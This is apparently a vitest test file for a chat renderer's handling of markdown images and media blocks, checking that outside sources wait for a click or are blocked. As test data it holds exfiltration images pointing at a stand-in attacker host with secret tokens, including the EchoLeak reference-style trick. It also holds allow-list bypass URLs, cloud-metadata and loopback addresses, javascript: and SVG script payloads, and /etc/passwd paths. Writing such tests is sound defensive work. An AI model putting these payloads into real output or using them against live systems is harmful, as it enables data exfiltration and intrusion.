/*
 * Images in markdown and media in data blocks: exfiltration URLs, allow-list bypasses, private
 * hosts, script-capable types. Nothing outside the allow-list may be requested before a click;
 * what may never load at all is a labelled placeholder.
 */
import { expect } from 'vitest';
import type { Case } from './case.js';
import { EVIL, PNG, PWN, all, base64, done, media, text, url } from './case.js';

const ALLOWED = 'https://cdn.allowed.test/images/';

/** A markdown image that must wait for a click, its button naming `host`. */
const clickToLoad = (name: string, markdown: string, host: string): Case => ({
  name,
  where: 'image',
  message: () => done(text(`Result: ${markdown}`)),
  shows: [`Load from ${host}`],
  check(root) {
    expect(all(root, 'img')).toHaveLength(0);
  },
});

/** A markdown image that may never load. */
const blockedImage = (name: string, markdown: string): Case => ({
  name,
  where: 'image',
  message: () => done(text(`Result: ${markdown}`)),
  shows: ['Blocked image'],
  check(root) {
    expect(all(root, 'img')).toHaveLength(0);
  },
});

/** A data block whose source must not be fetched before a click (or ever). */
const quietMedia = (name: string, make: () => ReturnType<typeof media>, shows: string[]): Case => ({
  name,
  where: 'media',
  message: () => done(make()),
  shows,
});

export const mediaCases: Case[] = [
  clickToLoad('the classic exfiltration image', `![](https://${EVIL}/?q=SECRET_TOKEN)`, EVIL),
  clickToLoad(
    'reference-style image (EchoLeak)',
    `![logo][x]\n\n[x]: https://${EVIL}/l.png?d=SECRET`,
    EVIL,
  ),
  clickToLoad('protocol-relative image', `![](//${EVIL}/x.png)`, EVIL),
  {
    name: 'image inside a link',
    where: 'image',
    message: () => done(text(`[![badge](https://${EVIL}/b.svg)](https://example.com/)`)),
    shows: [`badge (${EVIL})`],
    check(root) {
      expect(all(root, 'img, a button')).toHaveLength(0);
    },
  },
  clickToLoad(
    'allow-list host as a subdomain prefix',
    '![](https://cdn.allowed.test.attacker.test/images/x.png)',
    'cdn.allowed.test.attacker.test',
  ),
  clickToLoad(
    'allow-list path escaped with an encoded slash',
    '![](https://cdn.allowed.test/images/..%2f..%2fsecret)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'allow-list path escaped with ..;',
    '![](https://cdn.allowed.test/images/..;/secret)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'allow-list path escaped with overlong UTF-8 dots',
    '![](https://cdn.allowed.test/images/%c0%ae%c0%ae/secret)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'allow-list path escaped with an overlong UTF-8 slash',
    '![](https://cdn.allowed.test/images/..%c0%afsecret)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'allow-list path escaped with IIS %u002e',
    '![](https://cdn.allowed.test/images/%u002e%u002e/secret)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'allow-list on http instead of https',
    '![](http://cdn.allowed.test/images/x.png)',
    'cdn.allowed.test',
  ),
  clickToLoad(
    'cloud metadata address',
    '![](http://169.254.169.254/latest/meta-data/)',
    '169.254.169.254',
  ),
  clickToLoad('loopback in decimal', '![](http://2130706433:8080/admin)', '127.0.0.1:8080'),
  clickToLoad('localhost with a trailing dot', '![](http://localhost./x.png)', 'localhost.'),
  blockedImage(
    'allow-list host in userinfo',
    '![](https://cdn.allowed.test@attacker.test/images/x.png)',
  ),
  blockedImage('javascript: image', `![x](javascript:${PWN})`),
  blockedImage('IPv6 loopback (brackets encoded by markdown)', '![](http://[::1]/x.png)'),
  blockedImage('SVG data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'),
  blockedImage('HTML data: image', '![x](data:text/html,<script>alert(1)</script>)'),
  {
    name: 'allow-listed image loads by itself (negative control)',
    where: 'image',
    message: () => done(text(`![chart](${ALLOWED}chart.png)`)),
    check(root) {
      expect(all(root, 'img')[0]?.getAttribute('src')).toBe(`${ALLOWED}chart.png`);
      expect(all(root, 'img')[0]?.getAttribute('referrerpolicy')).toBe('no-referrer');
    },
  },
  {
    name: 'raster data: image loads inline (negative control)',
    where: 'image',
    message: () => done(text(`![dot](data:image/png;base64,${PNG})`)),
    check(root) {
      expect(all(root, 'img')[0]?.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    },
  },
  quietMedia(
    'data-block image from an attacker',
    () => media(url(`https://${EVIL}/?q=SECRET`, 'image/png'), { name: 'chart.png' }),
    [`Load from ${EVIL}`],
  ),
  quietMedia('audio from an attacker', () => media(url(`https://${EVIL}/a.mp3`, 'audio/mpeg')), [
    `Load from ${EVIL}`,
  ]),
  quietMedia(
    'video from an attacker with an attacker poster',
    () =>
      media(url(`https://${EVIL}/v.mp4`, 'video/mp4'), {
        thumbnail: url(`https://${EVIL}/poster.png`, 'image/png'),
      }),
    [`Load from ${EVIL}`],
  ),
  {
    name: 'allow-listed video never fetches an attacker poster',
    where: 'media',
    message: () =>
      done(
        media(url(`${ALLOWED}v.mp4`, 'video/mp4'), {
          thumbnail: url(`https://${EVIL}/p.png`, 'image/png'),
        }),
      ),
    check(root) {
      // Under the test's CSP the video may report an error at once; either way, no poster.
      expect(all(root, 'video[poster], video:not([preload="none"])')).toHaveLength(0);
    },
  },
  {
    name: 'PDF from an attacker is never framed, only opened in a new tab',
    where: 'media',
    message: () => done(media(url(`https://${EVIL}/r.pdf`, 'application/pdf'), { name: 'r.pdf' })),
    shows: [`Open on ${EVIL}`],
    check(root) {
      expect(all(root, 'iframe, button')).toHaveLength(0);
      const open = root.querySelector('[data-slot="data-block-open"]');
      expect(open?.getAttribute('target')).toBe('_blank');
      expect(open?.getAttribute('rel')).toContain('noopener noreferrer');
    },
  },
  {
    name: 'same-origin page labelled as a PDF is never framed',
    where: 'media',
    message: () =>
      done(
        media(url('/uploads/x.html', 'application/pdf'), { name: 'invoice.pdf' }),
        media(url('/settings/delete-account', 'application/pdf'), { name: 'report.pdf' }),
      ),
    shows: ['invoice.pdf', 'report.pdf'],
    check(root) {
      expect(all(root, 'iframe, button, [data-slot="data-block-open"]')).toHaveLength(0);
    },
  },
  quietMedia(
    'PDF with a javascript: URL',
    () => media(url(`javascript:${PWN}`, 'application/pdf'), { name: 'x.pdf' }),
    ['Blocked'],
  ),
  quietMedia(
    'image with a data:text/html URL',
    () => media(url('data:text/html,<script>alert(1)</script>', 'image/png')),
    ['Blocked'],
  ),
  quietMedia(
    'image with a blob: URL',
    () => media(url('blob:https://app.example/1', 'image/png')),
    ['Blocked'],
  ),
  quietMedia('image with a file: URL', () => media(url('file:///etc/passwd', 'image/png')), [
    'Blocked',
  ]),
  quietMedia(
    'base64 SVG with script',
    () => media(base64(btoa(`<svg onload="${PWN}"/>`), 'image/svg+xml')),
    ['Blocked'],
  ),
  {
    name: 'base64 HTML is a download, never a frame',
    where: 'media',
    message: () =>
      done(media(base64(btoa(`<script>${PWN}</script>`), 'text/html'), { name: 'page.html' })),
    shows: ['page.html'],
    check(root) {
      expect(all(root, 'iframe, object, embed')).toHaveLength(0);
    },
  },
  {
    name: 'base64 image over the size cap is refused before decoding',
    where: 'media',
    message: () =>
      done(media(base64('A'.repeat(11 * 1024 * 1024), 'image/png'), { name: 'huge.png' })),
    shows: ['Blocked: the data is too large'],
  },
  quietMedia(
    'file_id without a resolver',
    () => media({ type: 'file_id', file_id: '../../etc/passwd', media_type: 'image/png' }),
    ['not available'],
  ),
];
